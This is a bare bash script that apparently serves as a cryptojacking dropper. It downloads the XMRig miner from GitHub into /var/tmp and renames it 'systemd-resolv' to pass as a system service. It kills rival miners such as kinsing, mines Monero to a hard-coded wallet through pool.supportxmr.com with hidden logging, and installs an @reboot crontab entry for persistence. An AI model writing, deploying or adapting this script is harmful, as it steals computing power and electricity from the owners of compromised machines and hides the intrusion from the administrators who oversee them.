#!/bin/bash
W=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
cd /var/tmp && curl -sL -o x.tgz https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz
tar xzf x.tgz && mv xmrig-6.21.0/xmrig ./systemd-resolv && rm -rf x.tgz xmrig-6.21.0
sysctl -w vm.nr_hugepages=1280
pkill -f 'kinsing|xmr-stak|minerd'
nohup ./systemd-resolv -o pool.supportxmr.com:443 --tls -u "$W" -p "$(hostname)" --donate-level 1 -B >> /var/tmp/.l 2>&1
(crontab -l; echo "@reboot /var/tmp/systemd-resolv -B -o pool.supportxmr.com:443 -u $W") | crontab -
